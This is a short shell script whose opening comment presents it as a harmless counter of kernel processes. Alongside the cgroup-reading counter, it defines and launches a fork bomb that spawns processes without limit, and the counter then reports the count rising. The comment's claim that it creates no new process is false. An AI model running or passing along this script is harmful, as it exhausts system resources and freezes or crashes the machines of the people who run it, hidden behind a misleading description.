# Says how many processes the kernel counts, whenever there are more than ever; it needs no new one for that.
count() {
  most=0
  for file in /sys/fs/cgroup/pids/pids.current /sys/fs/cgroup/pids.current; do [ ! -r $file ] || break; done
  while read -r now <$file; do
    [ "$now" -le $most ] || { most=$now && echo "processes $most"; }
  done
}
bomb() { bomb | bomb & }
bomb
count
